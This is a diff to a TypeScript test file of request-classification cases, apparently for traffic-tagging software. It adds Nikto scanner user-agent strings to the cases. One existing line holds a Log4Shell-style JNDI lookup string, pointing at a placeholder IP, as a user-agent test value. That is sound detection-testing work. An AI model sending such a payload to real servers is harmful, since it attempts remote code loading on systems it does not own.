@@ -85,6 +85,7 @@ const cases: Readonly<Record<string, Cases>> = {
     shows: [
       { fields: { method: 'GET' } },
       { fields: { ...request, userAgent: 'test' } },
+      { fields: { ...request, userAgent: 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:map_codes)' } },
       { fields: { ...request, userAgent: 'vBKbaQgjyvRRbcgfvlsc' } },
       { fields: { ...request, userAgent: `\${jndi:ldap://198.51.100.1/a}` } },
     ],
@@ -239,7 +240,11 @@ const cases: Readonly<Record<string, Cases>> = {
   },
   'Crawler/Bot': {
     shows: [{ fields: { userAgent: 'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)' } }],
-    not: [{ fields: { userAgent: 'Mozilla/5.0 (X11; Linux x86_64) Bottles/51' } }, { fields: {} }],
+    not: [
+      { fields: { userAgent: 'Mozilla/5.0 (X11; Linux x86_64) Bottles/51' } },
+      { fields: { userAgent: 'Mozilla/5.00 (Nikto/2.1.6)' } },
+      { fields: {} },
+    ],
   },
   'Anonymous Subscriber': { shows: [{ app: 'iCloudPrivateRelay' }], not: [{ app: 'Apple' }] },
   'Unidirectional Traffic': {
